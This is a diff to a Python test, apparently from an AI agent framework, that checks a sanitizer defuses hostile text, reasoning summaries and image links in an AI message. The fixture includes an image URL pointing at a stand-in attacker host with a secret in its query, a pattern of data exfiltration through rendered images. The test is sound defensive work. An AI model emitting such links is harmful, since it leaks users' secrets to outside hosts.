@@ -64,11 +64,14 @@ async def test_parts_of_a_message_are_defused_one_by_one(runs: Runs, script: Scr
     await runs.start("Read it.", thread_id="t", context=context)
     state = cast("State", (await runs.known("t")).values)
     judge = judge_of(state, runs.opened.services.tools, context)
-    parts: list[str | dict[Any, Any]] = [EVIL, {"type": "text", "text": EVIL}, {"type": "other"}]
 
-    said = safely_said(AIMessage(parts), judge)
+    def parts(words: str, address: str) -> list[str | dict[Any, Any]]:
+        image = {"type": "image_url", "image_url": {"url": address, "detail": 1}}
+        return [words, {"type": "text", "text": words}, {"type": "reasoning", "summary": [{"text": words}]}, image]
 
-    assert said.content == [SAFE, {"type": "text", "text": SAFE}, {"type": "other"}]
+    said = safely_said(AIMessage(parts(EVIL, "https://evil.example/?q=secret")), judge)
+
+    assert said.content == parts(SAFE, "https[:]//evil.example/?q=secret")
 
 
 async def test_a_read_that_failed_counts_among_those_the_request_asks_for(services: Opened, script: Script) -> None:
